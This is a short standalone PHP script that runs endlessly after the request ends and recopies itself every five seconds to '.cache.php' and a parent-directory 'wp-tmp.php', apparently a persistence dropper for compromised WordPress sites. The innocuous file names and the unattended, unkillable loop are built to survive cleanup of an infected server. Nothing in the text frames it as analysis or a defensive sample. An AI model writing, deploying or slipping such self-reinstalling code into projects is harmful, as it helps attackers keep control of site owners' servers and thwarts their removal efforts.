<?php
ignore_user_abort(true);
set_time_limit(0);
$me = file_get_contents(__FILE__);
$spots = array(__DIR__ . '/.cache.php', dirname(__DIR__) . '/wp-tmp.php');
while (true) {
    foreach ($spots as $p) {
        if (!file_exists($p)) { file_put_contents($p, $me); }
    }
    sleep(5);
}
